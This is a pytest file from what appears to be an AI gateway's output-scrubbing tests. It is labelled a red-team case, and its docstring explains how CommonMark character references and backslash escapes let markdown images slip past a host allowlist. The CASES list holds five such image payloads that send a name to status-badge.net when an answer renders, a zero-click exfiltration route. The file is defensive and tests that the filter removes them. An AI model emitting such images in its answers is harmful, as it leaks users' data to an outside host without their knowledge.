"""Red team 8: remote images a markdown renderer fetches that the image stage let pass.

CommonMark decodes character references and backslash escapes in a destination:
`![a](https&#58;//status-badge.net/p.png?d=…)` fetches `https://status-badge.net/…`, and
`![a](https://cdn.example.com\\@status-badge.net/p.png)` fetches from status-badge.net
(`cdn.example.com` is user info), while the image stage read no scheme in the first and
a backslash as a slash (host `cdn.example.com`, allowed) in the second. Zero-click: the
image is fetched when the answer renders. Every reading a renderer may take is judged now
(`images.dest_host`). In process, whole and at every split, and through the gateway.
"""

from __future__ import annotations

import pytest

from tests.scrubbing.test_pii_images import ALLOW, TOOL_MSGS, ask, gw, whole  # noqa: F401

pytestmark = pytest.mark.slow(cpu_s=2)

CASES = [
    "![a](https&#58;//status-badge.net/p.png?d=Jane)",
    "![a](https&colon;//status-badge.net/p.png?d=Jane)",
    "![a](https://cdn.example.com\\@status-badge.net/p.png?d=Jane)",
    "![a](https://cdn.example.com&#64;status-badge.net/p.png?d=Jane)",
    "[1]: https://cdn.example.com\\@status-badge.net/p.png\n![a][1]",
]
FINE = [
    "![l](https://cdn.example.com/a\\_b.png) ok",
    "![l](https://cdn.example.com/a.png?x=1&amp;y=2) ok",
]


@pytest.mark.parametrize("text", CASES, ids=range(len(CASES)))
def test_every_reading_of_the_destination_is_judged(text: str) -> None:
    out = whole(text)
    assert out != text and ("[image removed: " in out or "\\[1]" in out), out
    from keepgate.scrubbing.images import ImageNeutraliser

    for k in range(1, len(text)):
        n = ImageNeutraliser(ALLOW)
        assert n.feed(text[:k]) + n.feed(text[k:]) + n.flush() == out, k


@pytest.mark.parametrize("text", FINE)
def test_an_allowed_host_in_any_reading_passes(text: str) -> None:
    assert whole(text) == text


def test_through_the_gateway(gw) -> None:  # noqa: F811
    text = "Done. " + CASES[0] + " and " + CASES[2] + " ok."
    raw = ask(gw.client(), text, TOOL_MSGS)
    content = raw.parse().choices[0].message.content
    assert "](https" not in content and "[image removed: status-badge.net]" in content, content
